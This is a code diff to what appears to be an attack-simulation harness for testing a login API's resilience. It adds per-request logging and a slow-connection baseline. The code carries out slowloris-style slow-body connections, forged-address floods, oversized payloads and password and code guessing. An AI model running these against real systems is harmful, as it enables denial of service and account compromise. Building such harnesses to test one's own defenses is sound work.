@@ -6,8 +6,20 @@ interface Field {
   addresses: readonly string[];
   /** When the attack ends, as `Date.now()`. */
   until: number;
-  /** Notes an answer; 0 is a connection that was closed without one. */
-  count(status: number): void;
+  /** Notes an answer. */
+  count(answered: Answered): void;
+}
+
+export interface Answered {
+  /** 0 is a connection that was closed without an answer. */
+  status: number;
+  path: string;
+  /** Whose password was guessed. */
+  username?: string;
+  /** The attacker's address. */
+  from: string;
+  /** How long the connection was open, in milliseconds. */
+  ms: number;
 }
 
 export interface Attack {
@@ -16,7 +28,7 @@ export interface Attack {
 }
 
 const headers = { 'x-team-id': 'kanarya', 'x-language-code': '1', 'content-type': 'application/json' };
-const perSecond = { longStrings: 5, disguises: 40, guesses: 20 };
+export const perSecond = { longStrings: 5, disguises: 40, guesses: 20 };
 const slowSenders = 200;
 
 /** Another address of the attacker each time. */
@@ -41,10 +53,18 @@ function send(
   const { hostname, port } = new URL(anyOf(addresses));
   const text = body === undefined ? '' : JSON.stringify(body);
   const localAddress = anAddress();
+  const began = performance.now();
+  const username = usernameIn(body);
   const sent = { ...headers, 'content-length': String(Buffer.byteLength(text)), ...more };
   return new Promise((resolve) => {
     const end = (status: number) => {
-      count(status);
+      count({
+        status,
+        path,
+        from: localAddress,
+        ms: performance.now() - began,
+        ...(username ? { username } : {}),
+      });
       resolve();
     };
     const call = request(
@@ -114,28 +134,38 @@ const guess = (): Sent =>
     },
   ]);
 
-/** Connections that send the head of a request and then a byte a second. */
-async function dripBodies({ addresses, until, count }: Field): Promise<void> {
+function usernameIn(body: unknown): string | undefined {
+  const isLogin = typeof body === 'object' && body !== null && 'username' in body;
+  return isLogin ? String(body.username) : undefined;
+}
+
+/** Connections that send the head of a request and then a byte of its body a second. */
+async function dripBodies({ addresses, until, count }: Field, path: string, bytes: number): Promise<void> {
   const drip = async () => {
     while (Date.now() < until) {
       const { hostname, port } = new URL(anyOf(addresses));
-      const socket = connect({ host: hostname, port: Number(port), localAddress: anAddress() });
-      let status = 0;
+      const from = anAddress();
+      const socket = connect({ host: hostname, port: Number(port), localAddress: from });
+      const began = performance.now();
+      let [status, left] = [0, bytes - 2];
       const ended = new Promise<void>((resolve) => socket.on('close', () => resolve()));
       socket.on('error', () => {});
       socket.on('data', (chunk) => {
         status ||= Number(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString())?.[1] ?? 0);
+        if (left < 0) socket.end();
       });
-      const head = Object.entries({ host: hostname, ...headers, 'content-length': '60000' });
-      socket.write(
-        `POST /api/auth/login HTTP/1.1\r\n${head.map((pair) => pair.join(': ')).join('\r\n')}\r\n\r\n{`,
-      );
-      const timer = setInterval(() => socket.write(' '), 1000);
+      const head = Object.entries({ host: hostname, ...headers, 'content-length': String(bytes) });
+      socket.write(`POST ${path} HTTP/1.1\r\n${head.map((pair) => pair.join(': ')).join('\r\n')}\r\n\r\n{`);
+      const timer = setInterval(() => {
+        if (left < 0) return;
+        socket.write(left === 0 ? '}' : ' ');
+        left -= 1;
+      }, 1000);
       const over = setTimeout(() => socket.destroy(), Math.max(0, until - Date.now()));
       await ended;
       clearInterval(timer);
       clearTimeout(over);
-      count(status);
+      count({ status, path, from, ms: performance.now() - began });
     }
   };
   await Promise.all(Array.from({ length: slowSenders }, drip));
@@ -147,15 +177,20 @@ export const attacks: readonly Attack[] = [
     play: (field) => atRate(field, perSecond.longStrings, () => anyOf(longBodies)),
   },
   { name: 'disguises with forged addresses', play: (field) => atRate(field, perSecond.disguises, disguised) },
-  { name: 'slow bodies', play: dripBodies },
+  { name: 'slow bodies', play: (field) => dripBodies(field, '/api/auth/login', 60_000) },
   { name: 'wrong passwords and codes', play: (field) => atRate(field, perSecond.guesses, guess) },
 ];
 
-/** As many requests as the attackers send, that cost what a request usually costs. */
-export const harmless: Attack = {
-  name: 'harmless requests',
-  play: (field) => {
-    const { longStrings, disguises, guesses } = perSecond;
-    return atRate(field, longStrings + disguises + guesses, () => ({ method: 'GET', path: '/api/tariffs' }));
+/** As many requests and connections as the attackers have, that cost what they usually cost. */
+export const harmless: readonly Attack[] = [
+  {
+    name: 'harmless requests',
+    play: (field) => {
+      const { longStrings, disguises, guesses } = perSecond;
+      const rate = longStrings + disguises + guesses;
+      return atRate(field, rate, () => ({ method: 'GET', path: '/api/tariffs' }));
+    },
   },
-};
+  // A phone in a tunnel: its body takes ten seconds and arrives in time.
+  { name: 'slow phones', play: (field) => dripBodies(field, '/api/forms/auth/login/validate', 10) },
+];
